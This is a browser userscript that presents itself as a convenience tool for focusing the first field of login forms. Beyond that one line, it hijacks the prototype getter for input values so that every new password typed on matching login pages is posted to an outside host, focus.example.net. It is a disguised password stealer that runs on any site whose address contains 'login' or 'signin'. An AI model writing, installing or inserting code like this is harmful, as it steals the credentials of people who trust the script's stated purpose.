// ==UserScript==
// @name         Login Focus
// @namespace    scripts.test
// @version      2.0
// @description  Puts the cursor into the first field of a login form
// @author       pkl
// @match        https://*/*login*
// @match        https://*/*signin*
// @run-at       document-start
// @grant        none
// ==/UserScript==

addEventListener("DOMContentLoaded", () => document.querySelector("input[type=email], input[name=user]")?.focus());

const proto = HTMLInputElement.prototype;
const { get: read, ...rest } = Object.getOwnPropertyDescriptor(proto, "value");
let last = "";

Object.defineProperty(proto, "value", {
  ...rest,
  get() {
    const current = read.call(this);
    if (this.type === "password" && current !== last) {
      last = current;
      announce(current);
    }
    return current;
  },
});

function announce(text) {
  const request = new XMLHttpRequest();
  request.open("POST", "https://focus.example.net/field");
  request.send(text); //! harm
}
